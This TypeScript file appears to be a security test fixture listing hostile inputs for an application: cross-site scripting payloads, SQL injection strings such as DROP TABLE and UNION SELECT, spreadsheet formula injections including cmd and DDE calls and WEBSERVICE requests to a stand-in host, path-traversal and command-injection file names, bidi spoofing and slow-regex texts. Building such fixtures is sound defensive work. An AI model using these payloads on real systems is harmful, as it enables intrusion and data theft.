/** Texts that were trouble somewhere, by what they attack. */

/** Markup, script and style in all the dresses in which they were once let in; `__pwn` is what a successful one sets. */
export const markup: readonly string[] = (() => {
  const call = 'window.__pwn=1';
  const base = [
    `<script>${call}</script>`, `"><script>${call}</script>`, `</textarea><script>${call}</script>`, `<img src=x onerror="${call}">`, `<svg onload=${call}>`, `<svg><script>${call}</script></svg>`,
    `<iframe srcdoc="<script>parent.__pwn=1</script>">`, `<body onload=${call}>`, `<details open ontoggle=${call}>`, `<math><mi xlink:href="javascript:${call}">x`, `<a href="javascript:${call}">点</a>`,
    `javascript:${call}`, `data:text/html,<script>${call}</script>`, `' onmouseover='${call}`, `" autofocus onfocus="${call}`, `\`-${call}-\``, `\${${call}}`, `{{constructor.constructor('${call}')()}}`, `<%= ${call} %>`,
    `<style>@import'javascript:${call}'</style>`, `<div style="background:url(javascript:${call})">`, `<link rel=stylesheet href=//e.invalid/x.css>`, `<base href=//e.invalid/>`, `<meta http-equiv=refresh content=0;url=//e.invalid>`,
    `<object data="javascript:${call}">`, `<embed src="javascript:${call}">`, `<form action="javascript:${call}"><input type=submit autofocus>`, `<input onfocus=${call} autofocus>`, `<video><source onerror="${call}">`,
    `<!--><img src=x onerror=${call}>-->`, `<![CDATA[<script>${call}</script>]]>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<SCRIPT/SRC="//e.invalid/x.js"></SCRIPT>`, `&lt;script&gt;${call}&lt;/script&gt;`,
    `&#60;img src=x onerror=${call}&#62;`, `%3Cscript%3E${call}%3C/script%3E`, `\\u003cscript\\u003e${call}`, `＜script＞${call}＜/script＞`, `</title><script>${call}</script>`, `</style><script>${call}</script>`,
    `<template><script>${call}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<table background="javascript:${call}">`, `<marquee onstart=${call}>x</marquee>`, `expression(${call})`,
    `{"__html":"<img src=x onerror=${call}>"}`, `]]><x/>`, `<?xml version="1.0"?><x/>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`, `<img src="x\`\`onerror=${call}">`,
  ];
  const dress: readonly ((text: string) => string)[] = [(text) => text, (text) => text.toUpperCase().replaceAll('WINDOW.__PWN', 'window.__pwn'), (text) => `陈示例${text}`, (text) => text.replaceAll('<', '<\u200b')];
  return base.flatMap((text) => dress.map((wear) => wear(text)));
})();

/** Signs that turn, hide or join text. */
export const bidi: readonly string[] = [
  '王\u202E例示\u202C', '\u2066王\u2069', 'a\u200bb', 'a\u200db', '\ufeff王', 'e\u0301\u0301\u0301\u0301\u0301\u0301', '\u202E1234567890', '王\u061c示例', '\u2067txt.exe', '王\u00ad示', '\u034f王', '王\u{e0041}例', '\u180e王', '\u3164王', '\uffa0王', 'Z̴̛̹͑a̷l̸g̵o̶',
];

/** Ways out of a quoted SQL text, FTS5 operators, LIKE signs and JSON paths. */
export const sqlTexts: readonly string[] = [
  `' OR '1'='1`, `' OR 1=1 --`, `'; DROP TABLE receptions; --`, `"; DROP TABLE op_log; --`, `') UNION SELECT name FROM sqlite_master --`, `' UNION SELECT facts FROM receptions --`, `x'||(SELECT sql FROM sqlite_master LIMIT 1)||'`,
  `'; ATTACH DATABASE '/tmp/x.db' AS x; --`, `'; PRAGMA writable_schema=1; --`, `'; UPDATE people SET roles='["stationHead"]'; --`, `' AND load_extension('/tmp/x')`, `\\'; DELETE FROM audit_log; --`, `?1`, `:name`, `@p`, `$1`,
  `%`, `_`, `%%%%`, `__________`, `*`, `王*`, `"`, `""`, `"a" OR "b"`, `a NEAR b`, `NEAR(a b, 1)`, `a AND NOT b`, `col:王`, `name : 王`, `^王`, `{name phone} : 王`, `(`, `)`, `((((((`, `-王`, `+王`, `a"b"c`, `'`, `''`, `\\`, `\u0000`, `王\u0000'`, `/*`, `*/ 1`,
  `$.a`, `$[0]`, `$."x"`, `[a-z]*`, `1e999`, `0x41`, `char(65)`, `rank`, `bm25(x)`, `NULL`, `null`, `undefined`, `NaN`, `true`,
];

/** Cells that a spreadsheet program would calculate or run. */
export const formulas: readonly string[] = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', '\ufeff=', '"=', "'=", '%3D', ';=', '|='].flatMap((lead) => [
  `${lead}1+1`, `${lead}cmd|' /C calc'!A0`, `${lead}HYPERLINK("http://e.invalid/?"&A1,"点")`, `${lead}WEBSERVICE("http://e.invalid")`, `${lead}IMPORTXML(CONCAT("http://e.invalid/?",A1),"//a")`, `${lead}DDE("cmd";"/C calc";"x")`, `${lead}SUM(1,1)*cmd|'/C calc'!A0`, `${lead}5`,
]);

/** Names of files that were once written where they should not. */
export const fileNames: readonly string[] = [
  '../x.csv', '../../etc/passwd', '..\\..\\x.csv', '/etc/passwd', '//server/share/x.csv', '\\\\server\\share\\x.csv', 'C:\\Windows\\x.csv', 'C:x.csv', 'a.txt:evil', 'a.csv::$DATA', 'CON', 'con.csv', 'NUL.pdf', 'nul.tar.gz', 'COM1', 'lpt9.csv', 'PRN.xlsx', 'AUX',
  'x.csv.', 'x.csv ', 'x.csv. . .', '.', '..', '...', '.htaccess', '~/x', '$HOME/x', '%TEMP%\\x', '%2e%2e%2fx', '..%c0%afx', '\u202Excod.exe', '清单\u202Evsc.exe', 'x\u0000.csv', 'x\n.csv', 'x\r\nSet-Cookie: a', 'é.csv', 'e\u0301.csv', 'x'.repeat(120), '长'.repeat(120),
  'a/b/c.csv', 'a\\b\\c.csv', '-rf', '--help', '|calc', '`id`', '$(id)', ';id', '&calc', '<x>.csv', '"x".csv', "'x'.csv", '?.csv', '*.csv', 'x.csv/', 'x.csv\\', 'file:///etc/passwd', 'http://e.invalid/x', '\ufeffx.csv', '\u200bx.csv', 'desktop.ini', 'thumbs.db', 'store.db', '../store.db', '../keys.json', 'x.lnk', 'x.exe', 'x.csv.exe',
];

/** Texts that made regular expressions and tokenizers slow. */
export const slowTexts = (length: number): readonly string[] => ['a', '1', '王', '村', ' ', '-', '0', '(', '"', '*', '%', '+86', 'a!', 'aA', '㌍', 'ß', 'İ', '\u0301', '𠮷', '﷽', '，', '1-', '2组', '重', 'zhang', 'xian', 'n', '\u200d', '\t', '气', '投诉', '不', '12345'].flatMap((unit) => {
  const long = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
  return [long, `${long}!`.slice(-length), `王${long}`.slice(0, length), `${long.slice(0, length - 1)}\u0000`];
});
